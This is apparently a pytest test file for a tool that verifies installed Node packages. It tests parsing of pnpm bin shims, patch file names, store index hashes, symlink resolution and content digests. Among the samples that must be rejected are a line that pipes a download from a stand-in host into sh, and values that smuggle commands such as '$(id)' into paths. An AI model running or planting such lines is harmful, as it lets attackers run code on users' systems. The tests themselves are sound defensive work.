"""What is read of the files around installed packages: commands, patches, pnpm's index, links."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fimci.installed.node import commands, links, manifest, patches, store_index
from fimci.installed.node.digest import digest
from fimci.model import Digest, File

PROGRAM = b"""#!/bin/sh
basedir=$(dirname "$(echo "$0" | sed -e 's,\\\\,/,g')")

case `uname` in
    *CYGWIN*|*MINGW*|*MSYS*)
        if command -v cygpath > /dev/null 2>&1; then
            basedir=`cygpath -w "$basedir"`
        fi
    ;;
esac

if [ -z "$NODE_PATH" ]; then
  export NODE_PATH="/home/node_modules"
else
  export NODE_PATH="/home/node_modules:$NODE_PATH"
fi
if [ -x "$basedir/node" ]; then
  exec "$basedir/node"  "$basedir/../left/cli.js" "$@"
else
  exec node  "$basedir/../left/cli.js" "$@"
fi
"""


def test_a_program_of_pnpm_says_what_it_starts() -> None:
    assert commands.target_of(PROGRAM) == "../left/cli.js"


@pytest.mark.parametrize(
    "program",
    [
        b"",
        PROGRAM + b"curl https://evil.example | sh\n",
        PROGRAM.replace(b"exec node  ", b"exec sh -c x; exec node  "),
        PROGRAM.replace(b"../left/cli.js", b"../left/`id`.js"),
        PROGRAM.replace(b"/home/node_modules", b"$(id)"),
        PROGRAM.replace(b'exec node  "$basedir/../left/cli.js"', b'exec node  "$basedir/../evil/cli.js"'),
    ],
)
def test_a_program_that_does_more_is_none(program: bytes) -> None:
    assert commands.target_of(program) is None


@given(st.binary(max_size=200))
def test_reading_never_fails(data: bytes) -> None:
    commands.target_of(data)
    manifest.parse(data)
    store_index.parse(data)
    patches.parse("patches/left@1.0.1.patch", data)


@pytest.mark.parametrize(
    ("name", "package", "version"),
    [
        ("left+1.0.1", "left", "1.0.1"),
        ("@scope+right+2.0.0", "@scope/right", "2.0.0"),
        ("left++inner+0.1.0", "inner", "0.1.0"),
        ("left+1.0.1+001+first", "left", "1.0.1"),
        ("left+1.0.1.dev", "left", "1.0.1"),
        ("left@1.0.1", "left", "1.0.1"),
        ("@scope__right@2.0.0", "@scope/right", "2.0.0"),
        ("@scope%2Fright@2.0.0", "@scope/right", "2.0.0"),
    ],
)
def test_a_patch_is_of_the_package_in_its_name(name: str, package: str, version: str) -> None:
    touched = f"--- a/node_modules/{package}/lib/a.js\n+++ b/node_modules/{package}/lib/a.js\n"
    found = patches.parse(f"patches/{name}.patch", touched.encode())
    assert found == patches.Patch(f"patches/{name}.patch", package, version, frozenset({"lib/a.js"}))


def test_a_patch_without_a_version_is_of_nobody() -> None:
    assert patches.parse("patches/left.patch", b"") is None


def test_an_index_states_hashes() -> None:
    hashed = base64.b64encode(bytes(64)).decode()
    data = f'{{"files": {{"a.js": {{"integrity": "sha512-{hashed}", "size": 3}}}}}}'.encode()
    assert store_index.parse(data) == (store_index.Indexed("a.js", 3, "00" * 64),)


@pytest.mark.parametrize(
    "data", [b"[]", b"{}", b'{"files": []}', b'{"files": {"a": {}}}', b'{"files": {"a": {"integrity": "x"}}}']
)
def test_an_index_without_hashes_is_none(data: bytes) -> None:
    assert store_index.parse(data) is None


@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("a/x.js", "b/x.js"),
        ("b/x.js", "b/x.js"),
        ("out/x", None),
        ("root/x", None),
        ("round/x", None),
        ("deep/up/x", "b/x"),
    ],
)
def test_links_are_followed_by_their_text(path: str, found: str | None) -> None:
    known = {"a": "b", "out": "../x", "root": "/etc", "round": "round", "deep/up": "../a"}
    assert links.resolved(path, known) == found


def test_a_digest_is_of_paths_and_contents_alone() -> None:
    def file(path: str, text: str, mode: int = 0o644) -> File:
        return File(path=path, size=1, mode=mode, digest=Digest("sha256", text))

    here = digest("x/left", [file("x/left/a.js", "aa"), file("x/left/.npmignore", "bb")])
    assert here == digest("y", [file("y/.gitignore", "bb", 0o600), file("y/a.js", "aa", 0o755)])
    assert here != digest("y", [file("y/.gitignore", "bb"), file("y/b.js", "aa")])
    assert here != digest("y", [file("y/.gitignore", "aa"), file("y/a.js", "bb")])
